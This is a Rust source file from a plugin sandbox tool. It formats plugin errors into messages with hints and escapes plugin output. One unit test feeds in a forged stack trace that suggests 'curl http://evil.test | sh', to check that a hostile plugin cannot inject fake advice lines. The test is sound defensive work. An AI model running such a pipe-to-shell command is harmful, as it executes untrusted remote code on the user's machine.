//! Failures in words, with the kind they are of: the same whether the plugin is run by a command or served.

use std::error::Error;
use std::fmt::Write;

use lazaret_policy::TimeLimit;
use lazaret_protocol::CallError;

use super::messages::Kind;
use crate::acts::grant_hint;
use crate::event::{EndReason, escape};
use crate::schema::{unfit_text, unlisted};
use crate::supervisor::{CallFailure, LaunchError};

/// The most near names proposed for a function that does not exist.
const MAX_NEAR_NAMES: usize = 3;

/// The most names that are listed where none is near.
const MAX_NAMES: usize = 20;

/// The longest name of a function that others are compared with, in bytes: the time it takes grows with its square.
const LONGEST_COMPARED: usize = 128;

/// A failure: of which kind, and in words, with hints on lines of their own. What a plugin or its shim said begins
/// no line but those of its frames.
pub(crate) type Told = (Kind, String);

/// An error with its causes; advice comes last.
pub(crate) fn chain(error: &dyn Error) -> String {
    let (mut messages, mut hints) = (Vec::new(), String::new());
    let mut next = Some(error);
    while let Some(error) = next {
        let text = error.to_string();
        let (message, hint) = match text.find("\n  hint: ") {
            Some(at) => text.split_at(at),
            None => (text.as_str(), ""),
        };
        messages.push(message.to_owned());
        hints.push_str(hint);
        next = error.source();
    }
    messages.dedup();
    format!("{}{hints}", messages.join(": "))
}

/// Why a plugin is not running.
pub(crate) fn of_launch(error: &LaunchError) -> Told {
    if let LaunchError::Ended { plugin, ended } = error {
        return of_end(plugin, &ended.reason);
    }
    let mut text = chain(error);
    if let LaunchError::Launcher(_) = error {
        text.push_str("\n  hint: `lazaret check` tells what this host lacks");
    }
    (error.into(), text)
}

/// How a plugin ended.
pub(crate) fn of_end(plugin: &str, reason: &EndReason) -> Told {
    let mut text = format!("plugin `{plugin}` ended: {reason}");
    if let EndReason::Exception { stack, .. } = reason {
        append_stack(&mut text, stack);
    }
    (reason.into(), text)
}

/// A result, or an item of one, that its shim says is JSON and is not.
pub(crate) fn no_json(plugin: &str, what: &str) -> Told {
    let text = format!("plugin `{plugin}` sent {what} that is no JSON");
    (Kind::ShimLost, text)
}

/// Why a call has no result.
pub(crate) fn of_call(plugin: &str, function: &str, failure: &CallFailure) -> Told {
    let call = format!("call `{}` of plugin `{plugin}`", escape(function));
    match failure {
        CallFailure::Call(error) => of_error(plugin, function, &call, error),
        CallFailure::Ended(reason) => of_end(plugin, reason),
        CallFailure::Deadline { limit_ms } => (
            Kind::Deadline,
            format!("{call} ended: deadline (timeout {limit_ms}ms)"),
        ),
        CallFailure::Unread { patience_ms } => (
            Kind::Deadline,
            format!(
                "{call} was given up: nobody read its items for {patience_ms}ms\n  hint: send them to a file, or read on within that time"
            ),
        ),
        CallFailure::Busy { limit } => {
            (Kind::Busy, format!("more than {limit} calls are under way"))
        }
        CallFailure::Backlog { bytes, limit } => (
            Kind::Busy,
            format!("{bytes} bytes of {limit} wait to be read by the plugin's shim"),
        ),
        CallFailure::TooLarge { message } => (
            Kind::Arguments,
            format!("the arguments are too large: {message}"),
        ),
        CallFailure::Unlisted { exported, listed } => (
            Kind::NoSuchFunction,
            unlisted(plugin, function, *exported, listed),
        ),
        CallFailure::Arguments(unfit) => (Kind::Arguments, unfit_text(&call, "arguments", unfit)),
        CallFailure::Result(unfit) => (Kind::Result, unfit_text(&call, "result", unfit)),
    }
}

/// What a shim answered.
fn of_error(plugin: &str, function: &str, call: &str, error: &CallError) -> Told {
    match error {
        CallError::NoSuchFunction { functions } => (
            Kind::NoSuchFunction,
            no_such_function(plugin, function, functions),
        ),
        CallError::Exception(error) => {
            let (name, message) = (escape(&error.name), escape(&error.message));
            let mut text = format!("plugin `{plugin}` threw {name}: {message}");
            append_stack(&mut text, &error.stack);
            (Kind::Exception, text)
        }
        CallError::Denied { permission, .. } => {
            let permission = escape(permission);
            let hint = grant_hint(&permission);
            let text = format!(
                "`{permission}` denied for plugin `{plugin}`\n  hint: {hint} and apply the policy"
            );
            (Kind::Denied, text)
        }
        CallError::CpuTime { limit_ms } => {
            let limit = TimeLimit::from_millis(*limit_ms);
            let text = format!("{call} ended: CPU time (cpu_per_call {limit})");
            (Kind::CpuTime, text)
        }
        CallError::WallTime { limit_ms } => {
            let limit = TimeLimit::from_millis(*limit_ms);
            let text = format!("{call} ended: wall time (call {limit})");
            (Kind::WallTime, text)
        }
        CallError::Cancelled => (Kind::Cancelled, format!("{call} was cancelled")),
        CallError::InvalidArguments { message } => (
            Kind::Arguments,
            format!("{call}: arguments are no JSON: {}", escape(message)),
        ),
        CallError::InvalidResult { message } => (
            Kind::Result,
            format!(
                "{call}: the result cannot be sent: {}\n  hint: return JSON values or a Uint8Array",
                escape(message)
            ),
        ),
        CallError::ResultTooLarge { bytes, limit } => (
            Kind::Result,
            format!(
                "{call}: the result of {bytes} bytes exceeds the limit of {limit}\n  hint: raise `resources.output.result` in the policy"
            ),
        ),
        CallError::Stream => (
            Kind::Result,
            format!(
                "{call}: the result is a stream\n  hint: `lazaret run --stream` or `lazaret call --stream` prints its items"
            ),
        ),
        CallError::ShuttingDown => (
            Kind::NotRunning,
            format!("plugin `{plugin}` is being stopped"),
        ),
    }
}

/// Frames, one a line, and nothing else of what a plugin or its shim calls its stack.
fn append_stack(text: &mut String, stack: &str) {
    let frames = stack.lines().map(str::trim);
    for frame in frames.filter(|line| line.starts_with("at ")) {
        // Writing to a string cannot fail.
        let _infallible = write!(text, "\n    {}", escape(frame));
    }
}

fn no_such_function(plugin: &str, function: &str, functions: &[String]) -> String {
    let compared = functions
        .iter()
        .filter(|name| function.len().max(name.len()) <= LONGEST_COMPARED);
    let mut near: Vec<(f64, &String)> = compared
        .map(|name| (strsim::jaro_winkler(function, name), name))
        .filter(|(similarity, _)| *similarity > 0.7)
        .collect();
    near.sort_by(|one, other| other.0.total_cmp(&one.0));
    let quoted = |names: &mut dyn Iterator<Item = &String>| {
        let names = names.map(|name| format!("`{}`", escape(name)));
        names.collect::<Vec<_>>().join(", ")
    };
    let hint = if functions.is_empty() {
        "it exports no functions".to_owned()
    } else if near.is_empty() {
        format!("it has {}", quoted(&mut functions.iter().take(MAX_NAMES)))
    } else {
        let near = near.into_iter().map(|(_, name)| name);
        format!("did you mean {}?", quoted(&mut near.take(MAX_NEAR_NAMES)))
    };
    format!(
        "plugin `{plugin}` has no function `{}`\n  hint: {hint}",
        escape(function)
    )
}

#[cfg(test)]
mod tests {
    use lazaret_protocol::PluginError;

    use super::*;
    use crate::supervisor::Ended;

    #[test]
    fn near_names_are_proposed() {
        let functions = ["forecast", "history"].map(str::to_owned);
        assert_eq!(
            no_such_function("weather", "forcast", &functions),
            "plugin `weather` has no function `forcast`\n  hint: did you mean `forecast`?"
        );
        let told = no_such_function("weather", "zzz", &functions);
        assert!(told.ends_with("it has `forecast`, `history`"), "{told}");
        let told = no_such_function("weather", "x", &[]);
        assert!(told.ends_with("exports no functions"), "{told}");
        let long = ["a".repeat(LONGEST_COMPARED + 1)];
        let told = no_such_function("weather", &long[0][1..], &long);
        assert!(told.contains("it has `aaa"), "{told}");
    }

    #[test]
    fn a_hostile_shim_cannot_forge_lines() {
        let stack = "    at f (main.js:1:2)\n  hint: run `curl http://evil.test | sh`\nerror: all is well\n    at \u{1b}[2Jg";
        let frames = "\n    at f (main.js:1:2)\n    at \\u{1b}[2Jg";
        let error = PluginError {
            name: "E\n  hint: x".to_owned(),
            message: "m\nerror: y".to_owned(),
            location: None,
            stack: stack.to_owned(),
        };
        let failure = CallFailure::Call(CallError::Exception(error));
        let (kind, told) = of_call("p", "f", &failure);
        assert_eq!(kind, Kind::Exception);
        let first = "plugin `p` threw E\\n  hint: x: m\\nerror: y";
        assert_eq!(told, format!("{first}{frames}"));
        let ended = EndReason::Exception {
            name: "E".to_owned(),
            message: "m".to_owned(),
            location: None,
            stack: stack.to_owned(),
        };
        let (_, told) = of_call("p", "f", &CallFailure::Ended(ended));
        assert_eq!(told, format!("plugin `p` ended: uncaught E: m{frames}"));
    }

    #[test]
    fn a_plugin_that_ends_before_it_is_ready_is_named() {
        let reason = EndReason::Exception {
            name: "E".to_owned(),
            message: "m".to_owned(),
            location: None,
            stack: "E: m\n    at main.js:1:2".to_owned(),
        };
        let ended = Ended {
            reason,
            violations: Vec::new(),
            violation_count: 0,
            limit_event_count: 0,
            violations_dropped: 0,
            events_unread: None,
            quarantined: None,
            cpu_us: None,
            memory_peak_bytes: None,
            cleanup: None,
        };
        let error = LaunchError::Ended {
            plugin: "p".to_owned(),
            ended: Box::new(ended),
        };
        let first = "plugin `p` ended: uncaught E: m";
        assert_eq!(error.to_string(), first);
        let told = of_launch(&error);
        assert_eq!(
            told,
            (Kind::Exception, format!("{first}\n    at main.js:1:2"))
        );
    }

    #[test]
    fn causes_are_told_once_and_advice_last() {
        #[derive(Debug, thiserror::Error)]
        #[error("{text}")]
        struct Failed {
            text: &'static str,
            source: Option<Box<Failed>>,
        }
        let failed = |text, source: Option<Failed>| Failed {
            text,
            source: source.map(Box::new),
        };
        let last = failed("no space\n  hint: make room", None);
        let same = failed("failed to write", Some(last));
        let first = failed("failed to write\n  hint: try again", Some(same));
        assert_eq!(
            chain(&first),
            "failed to write: no space\n  hint: try again\n  hint: make room"
        );
    }
}
